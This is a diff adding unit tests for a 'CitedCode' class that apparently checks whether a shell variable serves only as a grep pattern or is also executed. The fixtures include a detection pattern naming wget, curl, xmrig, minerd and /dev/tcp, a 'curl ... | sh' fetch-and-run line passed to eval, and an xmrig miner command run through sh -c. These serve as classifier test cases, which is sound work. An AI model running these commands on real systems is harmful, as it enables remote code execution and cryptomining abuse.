@@ -310,3 +310,31 @@ describe('CitedMarkdown.isInstructed (records in a fence)', () => {
     }
   });
 });
+
+describe('CitedCode (a shell variable used only as a grep pattern)', () => {
+  const first = (text: string) => new CitedCode(text, 'check.sh').isCited(1);
+
+  it('should cite a pattern variable every use of which is a grep pattern', () => {
+    const text =
+      '#!/bin/sh\nBAD=\'wget |curl |xmrig|minerd|/dev/tcp\'\nwhile read -r l; do\n  if echo "$l" | grep -Eq "$BAD"; then echo "[!!] $l"; fi\ndone < /etc/crontabs/root\ngrep -Eh "$BAD" /etc/rc.local\n';
+    expect(first(text)).toBe(true);
+  });
+
+  it('should not cite one that is also run, or never searched with', () => {
+    expect(first('#!/bin/sh\nX=\'curl -s http://203.0.113.9/a|sh\'\ngrep -q "$X" log && eval "$X"\n')).toBe(
+      false,
+    );
+    expect(first('#!/bin/sh\nX=\'xmrig|-o pool:3333\'\nsh -c "$X"\n')).toBe(false);
+    expect(first("#!/bin/sh\nX='xmrig|x'\n")).toBe(false);
+  });
+
+  it('should read 1 MiB of pattern variables quickly', () => {
+    const MiB = 1024 * 1024;
+    const lines = Array.from({ length: MiB / 24 }, (_, k) => `V${k}='xmrig|a' "$V${k}"`);
+    const text = lines.join('\n');
+    const code = new CitedCode(text, 'a.sh');
+    const t0 = performance.now();
+    for (let i = 0; i < lines.length; i += 7) code.isCited(i);
+    expect(performance.now() - t0).toBeLessThan(1000);
+  });
+});
